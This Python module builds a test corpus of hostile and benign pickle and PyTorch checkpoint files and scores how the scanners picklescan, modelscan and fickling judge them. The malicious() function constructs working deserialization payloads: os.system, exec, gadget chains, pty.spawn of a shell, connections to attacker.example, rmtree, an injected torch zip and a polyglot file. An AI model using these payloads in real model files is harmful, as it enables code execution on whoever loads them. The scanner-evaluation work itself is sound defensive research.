"""A corpus of hostile and benign pickle files, built in code (nothing binary is committed), and the
verdicts of the peer scanners (picklescan, modelscan, fickling) on a file.

Hostile files are written, never loaded: a payload is a ``__reduce__`` of a real function (``os.system``)
or a :class:`Ref` — a stand-in that pickles as ``module.name`` without that module being imported
(``webbrowser``, ``pty``, ``runpy``...), written by a pure-Python pickler exactly as pickle writes a
global at each protocol. Each payload would create :data:`MARKER` in the corpus directory (or reach
the network, or delete a directory inside it). Benign files are what a real checkpoint directory
holds: ``torch.save`` of state_dicts (zip and legacy), optimizer and scheduler state, RNG states,
``TrainingArguments``, numpy arrays and plain containers at every protocol.

Names are realistic (``.pkl``, ``.pt``, ``.bin``, ``.pth``): modelscan picks its scanner by extension.
"""

from __future__ import annotations

import _compat_pickle
import collections
import contextlib
import io
import logging
import marshal
import os
import pickle
import random
import types
import zipfile
from importlib import metadata
from pathlib import Path
from typing import NamedTuple

MARKER = "PWNED"


class Case(NamedTuple):
    path: Path
    unsafe: bool
    description: str


#: file name → a callable the scanner must name in ``unsafe`` (hostile files only).
NAMES: dict[str, str] = {}


class Ref:
    """Pickles as the global ``module.name``; that module is never imported, and this is never called."""

    def __init__(self, module: str, name: str):
        self.module, self.name = module, name

    def __call__(self, *args, **kwargs):  # pickle wants a callable in a __reduce__ tuple
        raise AssertionError("a corpus stand-in is never called")


class Call:
    """Pickles as the call ``func(*args)`` (how every pickle payload works: ``__reduce__``)."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args

    __call__ = Ref.__call__  # a call's result may be called in turn (gadget chains)


class OsSystem:
    """The textbook payload: the real ``os.system`` (``posix.system`` on Linux) in ``__reduce__``."""

    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


class _Pickler(pickle._Pickler):
    """pickle's pure-Python pickler, writing a :class:`Ref` as pickle's own ``save_global`` writes a global."""

    dispatch = pickle._Pickler.dispatch.copy()

    def save_ref(self, obj: Ref) -> None:
        module, name = obj.module, obj.name
        if self.proto >= 4:
            self.save(module)
            self.save(name)
            self.write(pickle.STACK_GLOBAL)
        else:
            if self.fix_imports:  # protocols 0-2 write Python 2 names (builtins → __builtin__)
                module, name = _compat_pickle.REVERSE_NAME_MAPPING.get(
                    (module, name), (_compat_pickle.REVERSE_IMPORT_MAPPING.get(module, module), name))
            self.write(pickle.GLOBAL + module.encode() + b"\n" + name.encode() + b"\n")
        self.memoize(obj)

    dispatch[Ref] = save_ref


def dumps(obj, protocol: int) -> bytes:
    buf = io.BytesIO()
    _Pickler(buf, protocol).dump(obj)
    return buf.getvalue()


#: A pickle module for ``torch.save(..., pickle_module=REF_PICKLE)``: a :class:`Ref` inside a real checkpoint.
REF_PICKLE = types.ModuleType("corpus_pickle")
REF_PICKLE.Pickler = _Pickler
REF_PICKLE.dump = lambda obj, f, protocol=2: _Pickler(f, protocol).dump(obj)


def _state_dict():
    import torch

    torch.manual_seed(0)
    return torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.LayerNorm(3)).state_dict()


def _inject(pickled: bytes, payload: bytes) -> bytes:
    """``payload`` (opcodes leaving one value) run first, its value popped, then the original pickle."""
    head = 2 if pickled[:1] == pickle.PROTO else 0
    return pickled[:head] + payload + pickle.POP + pickled[head:]


def _rewrite_member(path: Path, suffix: str, change) -> None:
    """Rewrite the archive member whose name ends with ``suffix`` (stored, as torch.save writes)."""
    with zipfile.ZipFile(path) as src:
        members = [(info, src.read(info)) for info in src.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as dst:
        for info, data in members:
            dst.writestr(info, change(data) if info.filename.endswith(suffix) else data)


def malicious(d: Path) -> list[Case]:
    """Write the hostile files into ``d``; each is listed with a description."""
    import torch

    marker = str(d / MARKER)
    (d / "victim").mkdir(exist_ok=True)  # what shutil.rmtree would delete
    cmd, code = f"touch {marker}", f"open({marker!r}, 'w').close()"
    cases: list[Case] = []

    def add(name: str, data: bytes, description: str, callable_: str) -> None:
        (d / name).write_bytes(data)
        cases.append(Case(d / name, True, description))
        NAMES[name] = callable_

    def saved(name: str, obj, description: str, callable_: str, **save) -> None:
        torch.save(obj, d / name, **save)
        cases.append(Case(d / name, True, description))
        NAMES[name] = callable_

    for p in (0, 2, 4, 5):
        add(f"os_system_p{p}.pkl", pickle.dumps(OsSystem(cmd), protocol=p),
            f"os.system in __reduce__, protocol {p}", "posix.system")
    add("os_system_named_os.pkl", dumps(Call(Ref("os", "system"), cmd), 2), "os.system named as os (not posix)",
        "os.system")
    add("nt_system.pkl", dumps(Call(Ref("nt", "system"), cmd), 3), "nt.system (os.system on Windows)", "nt.system")
    add("subprocess_popen.pkl", dumps(Call(Ref("subprocess", "Popen"), ["sh", "-c", cmd]), 4),
        "subprocess.Popen of a shell", "subprocess.Popen")
    add("subprocess_check_output.pkl", dumps(Call(Ref("subprocess", "check_output"), ["touch", marker]), 2),
        "subprocess.check_output", "subprocess.check_output")
    add("builtins_exec.pkl", dumps(Call(Ref("builtins", "exec"), code), 4), "builtins.exec of a code string",
        "builtins.exec")
    add("builtins_eval_p0.pkl", dumps(Call(Ref("builtins", "eval"), code), 0),
        "builtins.eval, protocol 0 (written as __builtin__.eval)", "builtins.eval")
    add("inst_opcode_p0.pkl", b"(S'" + cmd.encode() + b"'\niposix\nsystem\n.",
        "INST opcode (protocol 0) calling posix.system", "posix.system")
    add("runpy_run_code.pkl", dumps(Call(Ref("runpy", "_run_code"), code, {}), 4), "runpy._run_code", "runpy._run_code")
    add("importlib_import_module.pkl", dumps(Call(Ref("importlib", "import_module"), "webbrowser"), 4),
        "importlib.import_module of an arbitrary module", "importlib.import_module")
    add("webbrowser_open.pkl", dumps(Call(Ref("webbrowser", "open"), "https://attacker.example/"), 4),
        "webbrowser.open", "webbrowser.open")
    add("socket_connect.pkl", dumps(Call(Ref("socket", "create_connection"), ("attacker.example", 4444)), 4),
        "socket.create_connection (exfiltration)", "socket.create_connection")
    memo_trick = (b"\x80\x04" + b"\x8c\x05posix\x94" + b"\x8c\x06system\x94" + b"00"  # both pushed, memoized, popped
                  + b"h\x00h\x01\x93" + b"\x8c" + bytes([len(cmd)]) + cmd.encode() + b"\x85R.")
    add("stack_global_memo.pkl", memo_trick, "STACK_GLOBAL from memoized strings (handcrafted, protocol 4)",
        "posix.system")
    computed = (b"\x80\x04" + b"\x8c\x08builtins\x8c\x03str\x93" + b"\x8c\x05posix\x85R"  # module name = str('posix')
                + b"\x8c\x06system\x93" + b"\x8c" + bytes([len(cmd)]) + cmd.encode() + b"\x85R.")
    add("stack_global_computed.pkl", computed, "STACK_GLOBAL whose module name is a call's result (str('posix'))", "?.?")
    add("dotted_name_p4.pkl", dumps(Call(Ref("torch", "serialization.os.system"), cmd), 4),
        "os.system reached through torch by a dotted name (protocol 4)", "torch.serialization.os.system")
    add("operator_attrgetter.pkl",
        dumps(Call(Call(Call(Ref("operator", "attrgetter"), "system"), Call(Ref("builtins", "__import__"), "os")),
                   cmd), 4),
        "operator.attrgetter('system')(__import__('os'))(cmd)", "operator.attrgetter")
    add("operator_methodcaller.pkl",
        dumps(Call(Call(Ref("operator", "methodcaller"), "system", cmd),
                   Call(Ref("importlib", "import_module"), "os")), 2),
        "operator.methodcaller('system', cmd)(import_module('os'))", "operator.methodcaller")
    add("builtins_getattr.pkl",
        dumps(Call(Call(Ref("builtins", "getattr"), Call(Ref("builtins", "__import__"), "builtins"), "exec"), code), 4),
        "getattr(__import__('builtins'), 'exec')(code)", "builtins.getattr")
    add("pickle_loads_nested.pkl", dumps(Call(Ref("pickle", "loads"), pickle.dumps(OsSystem(cmd), protocol=2)), 4),
        "pickle.loads of a nested hostile pickle", "pickle.loads")
    add("marshal_function.pkl", dumps(Call(Call(Ref("types", "FunctionType"), Call(
        Ref("marshal", "loads"), marshal.dumps(compile(code, "<payload>", "exec"))), {})), 4),
        "types.FunctionType(marshal.loads(code object), {})()", "marshal.loads")
    add("shutil_rmtree.pkl", dumps(Call(Ref("shutil", "rmtree"), str(d / "victim")), 4), "shutil.rmtree",
        "shutil.rmtree")
    add("pty_spawn.pkl", dumps(Call(Ref("pty", "spawn"), "/bin/sh"), 2), "pty.spawn of a shell", "pty.spawn")
    add("numpy_runstring.pkl", dumps(Call(Ref("numpy.testing._private.utils", "runstring"), code, {}), 4),
        "numpy.testing._private.utils.runstring (a numpy exec gadget)", "numpy.testing._private.utils.runstring")
    add("functools_partial.pkl", dumps(Call(Call(Ref("functools", "partial"), Ref("posix", "system"), cmd)), 4),
        "functools.partial(os.system, cmd)()", "functools.partial")
    add("code_interpreter.pkl", dumps(Call(Call(Ref("operator", "methodcaller"), "runsource", code),
                                           Call(Ref("code", "InteractiveInterpreter"))), 4),
        "code.InteractiveInterpreter().runsource(code)", "code.InteractiveInterpreter")

    sd = _state_dict()
    saved("torch_zip_injected.pt", sd, "torch.save zip archive, data.pkl rewritten: os.system runs first",
          "posix.system")
    _rewrite_member(d / "torch_zip_injected.pt", "/data.pkl",
                    lambda data: _inject(data, b"cposix\nsystem\n(V" + cmd.encode() + b"\ntR"))
    saved("torch_zip_nested.pt", {"model": sd, "config": {"hooks": [OsSystem(cmd)]}},
          "torch.save zip: payload nested in a dict beside tensors", "posix.system")
    saved("torch_legacy_payload.bin", {"w": sd["0.weight"], "evil": OsSystem(cmd)},
          "legacy (non-zip) torch.save file with a payload", "posix.system", _use_new_zipfile_serialization=False)
    saved("torch_hub_load.pt", {"w": sd["0.weight"], "model": Call(Ref("torch.hub", "load"), "attacker/repo", "model")},
          "torch.save zip calling torch.hub.load (runs a repo's hubconf.py)", "torch.hub.load", pickle_module=REF_PICKLE)
    torch.save(sd, d / "polyglot.pt")
    add("polyglot.pt", pickle.dumps(OsSystem(cmd), protocol=2) + (d / "polyglot.pt").read_bytes(),
        "pickle/zip polyglot: a payload pickle before a torch zip archive", "posix.system")
    return cases


def benign(d: Path, *, training_args: bool = True) -> list[Case]:
    """Write the benign files into ``d``. ``training_args``: include a real ``TrainingArguments`` (imports
    transformers, a few seconds)."""
    import numpy as np
    import torch

    cases: list[Case] = []

    def add(name: str, data: bytes, description: str) -> None:
        (d / name).write_bytes(data)
        cases.append(Case(d / name, False, description))

    def saved(name: str, obj, description: str, **save) -> None:
        torch.save(obj, d / name, **save)
        cases.append(Case(d / name, False, description))

    sd = _state_dict()
    saved("model_state_dict.pt", sd, "torch.save of a state_dict (zip)")
    saved("pytorch_model.bin", sd, "torch.save of a state_dict (legacy, non-zip)", _use_new_zipfile_serialization=False)
    model = torch.nn.Linear(4, 2)
    opt = torch.optim.AdamW(model.parameters(), lr=1e-3)
    sched = torch.optim.lr_scheduler.LambdaLR(opt, lambda step: 1.0 - step / 10)
    model(torch.ones(3, 4)).sum().backward()
    opt.step()
    sched.step()
    saved("optimizer.pt", opt.state_dict(), "AdamW optimizer.state_dict() after one step")
    saved("scheduler.pt", sched.state_dict(), "LambdaLR scheduler state_dict (as HF Trainer saves it)")
    random.seed(0)
    np.random.seed(0)
    rng = {"python": random.getstate(), "numpy": np.random.get_state(), "cpu": torch.get_rng_state()}
    saved("rng_state.pth", rng, "HF Trainer rng_state.pth: python, numpy and torch RNG states")
    arrays = {"x": np.arange(12, dtype=np.float32).reshape(3, 4), "ids": np.array([1, 2, 3], dtype=np.int64)}
    for p in (2, 3, 4, 5):
        add(f"arrays_p{p}.pkl", pickle.dumps(arrays, protocol=p), f"numpy arrays, protocol {p}")
    plain = {"lr": 3e-4, "steps": [1, 2, 3], "pair": (1, "a"), "tags": {"x", "y"}, "frozen": frozenset({1}),
             "blob": b"\x00\xff", "empty": b"", "buf": bytearray(b"ab"), "z": 1j, "none": None, "ok": True,
             "nested": {"a": [{"b": (1.5, -2)}]}, "window": slice(0, 8, 2)}  # fmt: skip
    for p in range(6):
        add(f"plain_p{p}.pkl", pickle.dumps(plain, protocol=p), f"plain dict/list/tuple/set/bytes/complex, protocol {p}")
    dd = collections.defaultdict(list, {"a": [1]})
    add("ordered_defaultdict.pkl", pickle.dumps({"od": collections.OrderedDict(a=1, b=2), "dd": dd}, protocol=2),
        "OrderedDict and defaultdict(list), protocol 2")
    tensors = {str(t).split(".")[1]: torch.ones(3, dtype=t) for t in
               (torch.float16, torch.bfloat16, torch.float32, torch.float64, torch.int64, torch.int8, torch.uint8,
                torch.bool)}  # fmt: skip
    saved("dtypes.pt", tensors, "tensors of eight dtypes (zip)")
    saved("dtypes_legacy.pt", tensors, "tensors of eight dtypes (legacy)", _use_new_zipfile_serialization=False)
    saved("checkpoint.pt", {"model": sd, "optimizer": opt.state_dict(), "epoch": 3, "meta": {"names": list(sd)}},
          "a nested training checkpoint: model, optimizer, epoch (zip)")
    saved("parameter.pt", {"p": torch.nn.Parameter(torch.ones(2)), "bn": torch.nn.BatchNorm1d(2).state_dict()},
          "nn.Parameter and BatchNorm buffers (zip)")
    base = torch.arange(8.0)
    saved("shared_views.pt", [base, base[2:], base.view(2, 4)], "views sharing one storage (zip)")
    saved("torch_values.pt", {"device": torch.device("cpu"), "shape": torch.Size([2, 3]), "dtype": torch.bfloat16},
          "torch.device, torch.Size and a dtype (zip)")
    scalars = {"loss": np.float64(1.5), "step": np.int64(3), "flag": np.bool_(True), "dt": np.dtype("float16")}
    add("numpy_scalars_p2.pkl", pickle.dumps(scalars, protocol=2), "numpy scalars and a dtype, protocol 2")
    add("numpy_scalars_p4.pkl", pickle.dumps(scalars, protocol=4), "numpy scalars and a dtype, protocol 4")
    add("random_state.pkl", pickle.dumps(random.getstate(), protocol=2), "random.getstate(), protocol 2")
    add("numpy_rng_state.pkl", pickle.dumps(np.random.get_state(), protocol=4), "numpy.random.get_state(), protocol 4")
    if training_args:
        import tempfile

        from transformers import TrainingArguments

        with tempfile.TemporaryDirectory() as out:
            saved("training_args.bin", TrainingArguments(output_dir=out, report_to=[]),
                  "HF TrainingArguments via torch.save (training_args.bin)")
    return cases


def build(d: Path, *, training_args: bool = True) -> list[Case]:
    """The whole corpus in ``d``: hostile files, then benign ones."""
    return malicious(d) + benign(d, training_args=training_args)


# ---- the peers -------------------------------------------------------------------------------------

#: The installable packages; each column of the comparison is one of them in one mode.
PEERS = ("picklescan", "modelscan", "fickling")


def peer_version(package: str) -> str | None:
    try:
        return metadata.version(package)
    except metadata.PackageNotFoundError:
        return None


def _picklescan(path: Path, strict: bool = False) -> tuple[bool, str]:
    from picklescan.scanner import scan_file_path

    logging.getLogger("picklescan").setLevel(logging.CRITICAL)
    result = scan_file_path(str(path), strict=strict)
    suspicious = f"{result.suspicious_count} suspicious" if result.suspicious_count else ""
    note = "scan error" if result.scan_err else suspicious
    return result.issues_count > 0, note


def _modelscan(path: Path) -> tuple[bool, str]:
    from modelscan.modelscan import ModelScan

    logging.getLogger("modelscan").setLevel(logging.CRITICAL)
    report = ModelScan().scan(path)
    summary = report["summary"]
    unscanned = summary["skipped"]["total_skipped"] and not summary["scanned"]["total_scanned"]
    return summary["total_issues"] > 0, "error" if report["errors"] else ("not scanned" if unscanned else "")


def _fickling_pickles(path: Path) -> list[bytes]:
    """What fickling's own Hugging Face scan reads: a zip archive's pickle members, else the whole file."""
    from fickling.loader import RelaxedZipFile
    from fickling.polyglot import find_file_properties

    props = find_file_properties(str(path))
    if props["is_torch_zip"] or props["is_standard_zip"]:
        with RelaxedZipFile(path) as archive:
            suffixes = (".pkl", ".pickle", ".bin")
            return [archive.read(i) for i in archive.infolist() if Path(i.filename).suffix in suffixes]
    return [path.read_bytes()]


def _fickling(path: Path) -> tuple[bool, str]:
    """fickling's library scan, as its own Hugging Face scan calls it: ``scan_zip_archive`` for a zip
    archive, else ``scan_file`` (every stacked pickle); flagged when any is rated above LIKELY_SAFE."""
    from fickling.loader import scan_file, scan_zip_archive
    from fickling.polyglot import find_file_properties

    props = find_file_properties(str(path))
    if props["is_torch_zip"] or props["is_standard_zip"]:
        results = list(scan_zip_archive(str(path), graceful=True).values())
    else:
        results = [scan_file(str(path), graceful=True)]
    return any(not r.is_safe for r in results), "error" if any(r.errors for r in results) else ""


def _fickling_ml(path: Path) -> tuple[bool, str]:
    """fickling's ML allow-list (``fickling.ml.MLAllowlist``, what its safe-loading hook enforces) as the one
    analysis of ``check_safety``, on the pickles its scan reads; flagged above LIKELY_SAFE or unparsable."""
    from fickling.analysis import Analyzer, Severity, check_safety
    from fickling.fickle import StackedPickle
    from fickling.ml import MLAllowlist

    analyzer = Analyzer([MLAllowlist()])
    try:
        for data in _fickling_pickles(path):
            for pickled in StackedPickle.load(io.BytesIO(data), fail_on_decode_error=False):
                if check_safety(pickled, analyzer=analyzer).severity > Severity.LIKELY_SAFE:
                    return True, ""
    except Exception as exc:  # its interpreter raises on opcodes it lacks (FLOAT, BYTEARRAY8): scan_file's rating
        return True, f"error: {type(exc).__name__}"
    return False, ""


#: column → (package, verdict function): ``(flagged, note)`` for one file.
VERDICTS = {
    "picklescan": ("picklescan", _picklescan),
    "picklescan --strict": ("picklescan", lambda p: _picklescan(p, strict=True)),
    "modelscan": ("modelscan", _modelscan),
    "fickling": ("fickling", _fickling),
    "fickling ML allow-list": ("fickling", _fickling_ml),
}


def peer_verdicts(column: str, cases: list[Case]) -> list[tuple[bool | None, str]]:
    """One column of the comparison; a file the peer raises on is ``(None, "raised …")``."""
    verdict = VERDICTS[column][1]
    out: list[tuple[bool | None, str]] = []
    for case in cases:
        try:
            with contextlib.redirect_stdout(io.StringIO()):  # fickling prints its parser's warnings
                out.append(verdict(case.path))
        except Exception as exc:
            out.append((None, f"raised {type(exc).__name__}"))
    return out


def totals(expected: list[bool], flagged: list[bool | None]) -> dict[str, int]:
    """True positives, false positives and false negatives (a file not judged counts as not flagged)."""
    return {"TP": sum(e and bool(f) for e, f in zip(expected, flagged)),
            "FP": sum(not e and bool(f) for e, f in zip(expected, flagged)),
            "FN": sum(e and not f for e, f in zip(expected, flagged))}  # fmt: skip
